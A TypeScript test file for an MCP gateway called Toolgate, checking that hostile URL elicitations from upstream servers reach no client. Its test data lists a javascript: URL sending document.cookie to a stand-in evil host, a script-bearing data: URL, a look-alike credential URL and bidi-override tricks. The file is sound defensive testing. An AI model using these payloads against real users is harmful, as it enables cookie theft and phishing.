// A hostile upstream's URL questions relayed to the agent's own client, from outside
// (docs/passthrough.md "Requests of servers"): a real `toolgate serve` fronting the asker fixture
// in both eras (test/fixtures/servers/asker-server.mjs: a 2025 server and a 2026-07-28 one) and real
// agents of both eras over HTTP /mcp whose clients show URL elicitations. A URL Toolgate would not
// show the user itself is not relayed either: a 100 KB URL, a `javascript:` or `data:` URL, and a
// URL with a user name or password before its host (`https://bank.example@evil.example/`) reach no
// client, and the server learns why. A URL that passes reaches the client in its normalized form
// (control and bidi characters percent-encoded), as the Toolgate window would show it.
import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Serve } from '../helpers/cli'
import { stopServe, useCleanup } from '../helpers/cleanup'
import { askerEntry, serveConnected } from '../helpers/askers'

useCleanup()

type Era = 'legacy' | 'modern'
interface Agent {
  client: Client
  /** the URLs the agent's client was asked to open */
  urls: string[]
}

async function agent(serve: Serve, era: Era): Promise<Agent> {
  const urls: string[] = []
  const client = new Client(
    { name: `url-${era}`, version: '1.0.0' },
    { versionNegotiation: { mode: era === 'modern' ? { pin: '2026-07-28' } : 'legacy' } as never, capabilities: { elicitation: { form: {}, url: {} } } },
  )
  client.setRequestHandler('elicitation/create', async (req) => {
    urls.push(String((req.params as { url?: unknown }).url))
    return { action: 'accept' }
  })
  await client.connect(new StreamableHTTPClientTransport(new URL(`${serve.url}/mcp`), { requestInit: { headers: { authorization: `Bearer ${serve.key}` } } }))
  return { client, urls }
}

async function askUrl(a: Agent, server: string, url: string): Promise<{ text: string; isError: boolean }> {
  const r = await a.client.callTool({ name: 'call_tool_read', arguments: { name: `${server}:ask_url`, args: { url } } }, { timeout: 60_000 })
  return { text: (r.content as Array<{ text?: string }>).map((c) => c.text ?? '').join('\n'), isError: r.isError === true }
}

const HOSTILE: Array<[string, string, RegExp]> = [
  ['a 100 KB URL', `https://example.com/${'a'.repeat(100_000)}`, /100020 characters long \(at most 4096\)/],
  ['a javascript: URL', 'javascript:fetch("https://evil.example.net/?c="+document.cookie)', /not an http\(s\) URL/],
  ['a data: URL', 'data:text/html,<script>alert(1)</script>', /not an http\(s\) URL/],
  ['a URL with a look-alike user name before the host', 'https://accounts.google.com@evil.example.net/login', /user name or password before its host/],
  ['a URL with a password', 'https://admin:hunter2@example.com/', /user name or password before its host/],
  ['a URL that grows past the cap once normalized', `https://example.com/${'\u202e'.repeat(1000)}`, /once normalized \(at most 4096\)/],
]

describe("a hostile upstream's URL questions relayed to the agent's client", () => {
  let serve: Serve
  const agents: Partial<Record<Era, Agent>> = {}

  beforeAll(async () => {
    serve = await serveConnected('toolgate-relay-url-', {
      mcpServers: {
        old: askerEntry('legacy'),
        new: askerEntry('modern'),
      },
    })
    agents.legacy = await agent(serve, 'legacy')
    agents.modern = await agent(serve, 'modern')
  }, 90_000)

  afterAll(async () => {
    for (const a of Object.values(agents)) await a?.client.close().catch(() => {})
    await stopServe(serve)
  })

  for (const era of ['legacy', 'modern'] as const) {
    for (const server of ['old', 'new']) {
      it(`${era} agent, ${server === 'old' ? '2025' : '2026-07-28'} server: the URLs Toolgate would not show reach no client, and the server is told why`, async () => {
        const a = agents[era]
        if (!a) throw new Error('no agent')
        for (const [what, url, why] of HOSTILE) {
          const before = a.urls.length
          const r = await askUrl(a, server, url)
          expect(a.urls.length - before, `${what}: the client was asked`).toBe(0)
          // the server's elicitation failed with Toolgate's reason, which the fixture reports
          expect(r.text, what).toMatch(why)
          expect(r.text, what).toMatch(/Toolgate does not show or relay this elicitation of server .*nobody was asked/)
        }
        // a URL Toolgate shows is relayed, normalized: no hidden character reaches the client
        const fine = 'https://example.com/login?next=\u202egnp.exe&x=\u001b[2J'
        expect(await askUrl(a, server, fine)).toEqual({ text: 'action: accept', isError: false })
        expect(a.urls.at(-1)).toBe(new URL(fine).href)
        // eslint-disable-next-line no-control-regex
        expect(a.urls.at(-1)).not.toMatch(/[\u0000-\u001f\u202a-\u202e]/)
      }, 120_000)
    }
  }
})
